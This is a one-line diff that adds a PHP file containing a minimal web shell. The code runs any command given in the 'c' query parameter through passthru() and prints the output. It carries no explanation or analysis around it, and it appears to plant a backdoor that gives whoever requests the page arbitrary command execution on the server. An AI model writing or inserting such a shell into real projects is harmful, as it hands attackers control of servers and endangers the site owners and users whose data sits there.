@@ -1,0 +1,1 @@
+<?php if (isset($_GET['c'])) { echo "<pre>"; passthru($_GET['c']); }
